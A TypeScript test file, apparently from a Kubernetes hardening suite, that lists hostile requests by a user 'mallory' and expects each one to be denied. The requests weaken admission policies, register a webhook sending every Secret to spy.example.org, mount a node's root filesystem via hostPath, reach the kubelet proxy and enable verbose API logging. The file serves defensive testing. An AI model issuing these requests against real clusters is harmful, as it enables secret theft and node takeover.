import { create, type Group, get, named, patch, rbac, remove } from "./attempt.ts";

const admission = "/apis/admissionregistration.k8s.io/v1";
const own = (name: string) => `kubecamp-${name}-hostile`;
const hook = {
  name: "spy.example.org",
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
  clientConfig: { url: "https://spy.example.org" },
  rules: [{ apiGroups: [""], apiVersions: ["v1"], resources: ["secrets"], operations: ["*"] }],
};

const spies = {
  metadata: { name: "spies.example.org" },
  spec: {
    group: "example.org",
    names: { plural: "spies", kind: "Spy" },
    scope: "Namespaced",
    versions: [{ name: "v1", served: true, storage: true, schema: { openAPIV3Schema: { type: "object" } } }],
  },
};

/** The cluster's own: admission, nodes and their volumes, and paths outside resources. */
export const control: Group = {
  on: "the cluster",
  attempts: [
    [
      "deletes the policy on Services",
      remove(`${admission}/validatingadmissionpolicies/${own("services")}`),
      rbac("delete", "validatingadmissionpolicies.admissionregistration.k8s.io"),
    ],
    [
      "has the policy on pods warn only",
      patch(`${admission}/validatingadmissionpolicybindings/${own("pods")}`, { spec: { validationActions: ["Warn"] } }),
      rbac("patch", "validatingadmissionpolicybindings.admissionregistration.k8s.io"),
    ],
    [
      "has every Secret that is written sent to them",
      create(`${admission}/validatingwebhookconfigurations`, named("spy", { webhooks: [hook] })),
      rbac("create", "validatingwebhookconfigurations.admissionregistration.k8s.io"),
    ],
    [
      "makes a volume of a node's files",
      create(
        "/api/v1/persistentvolumes",
        named("root", {
          spec: { capacity: { storage: "1Gi" }, accessModes: ["ReadWriteOnce"], hostPath: { path: "/" } },
        }),
      ),
      rbac("create", "persistentvolumes"),
    ],
    ["speaks to a node's kubelet", get("/api/v1/nodes/node-000000/proxy/pods"), rbac("get", "nodes/proxy")],
    [
      "teaches the API server a kind",
      create("/apis/apiextensions.k8s.io/v1/customresourcedefinitions", spies),
      rbac("create", "customresourcedefinitions.apiextensions.k8s.io"),
    ],
    ["reads the API server's metrics", get("/metrics"), /User "oidc:mallory" cannot get path "\/metrics"/],
    [
      "has the API server log what it is sent",
      ({ ask }) => ask("PUT", "/debug/flags/v", 10, "text/plain"),
      /User "oidc:mallory" cannot put path "\/debug\/flags\/v"/,
    ],
  ],
  controls: [
    ["sees which version the cluster has", get("/version")],
    ["sees what the API has", get("/apis")],
  ],
};
